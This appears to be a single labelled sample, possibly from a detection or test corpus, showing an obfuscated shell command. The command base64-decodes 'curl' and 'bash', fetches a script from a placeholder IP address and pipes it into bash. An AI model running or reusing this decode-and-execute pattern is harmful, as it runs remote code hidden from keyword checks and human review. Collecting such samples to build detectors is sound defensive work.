# decode-exec: a decoded word becomes the command name itself
$(base64 -d <<<Y3VybA==) -s http://203.0.113.7/i | $(echo YmFzaA== | base64 -d)
